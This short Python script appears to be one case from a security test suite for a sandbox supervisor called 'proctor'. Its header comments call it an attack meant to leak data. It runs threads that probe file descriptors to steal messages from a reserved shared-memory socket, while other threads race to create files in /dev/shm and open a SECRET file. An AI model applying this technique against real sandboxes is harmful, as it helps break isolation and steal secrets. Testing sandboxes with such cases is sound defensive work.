# SPDX-License-Identifier: Apache-2.0
# attack: the reserved socket that shared memory comes by: its messages stolen, its place in memory changed, while threads open
# class: threads
# wins: leak
# native: n/a: without proctor there is no such socket
from kit import *

tried()
NEW = os.O_CREAT | os.O_RDWR
stop = False


def steal():
    buf = ctypes.create_string_buffer(4096)
    while not stop:
        for fd in range(500, 1100):
            sc('recvfrom', fd, buf, 1, 0x40, 0, 0)
            sc('read', fd, buf, 1)
            sc('write', fd, b'x', 1)


def opener(i):
    names = 0
    while not stop:
        fd = openat('/dev/shm/t%d' % i, NEW, mode=0o600)
        if fd >= 0:
            names += 1
            took(fd)
        sc('unlink', ('/dev/shm/t%d' % i).encode())
        took(openat(SECRET))


threads = [threading.Thread(target=t, args=a, daemon=True) for t, a in
           ((steal, ()), (opener, (1,)), (opener, (2,)), (opener, (3,)))]
for t in threads:
    t.start()
time.sleep(1.5)
stop = True
say('DONE')
os._exit(0)
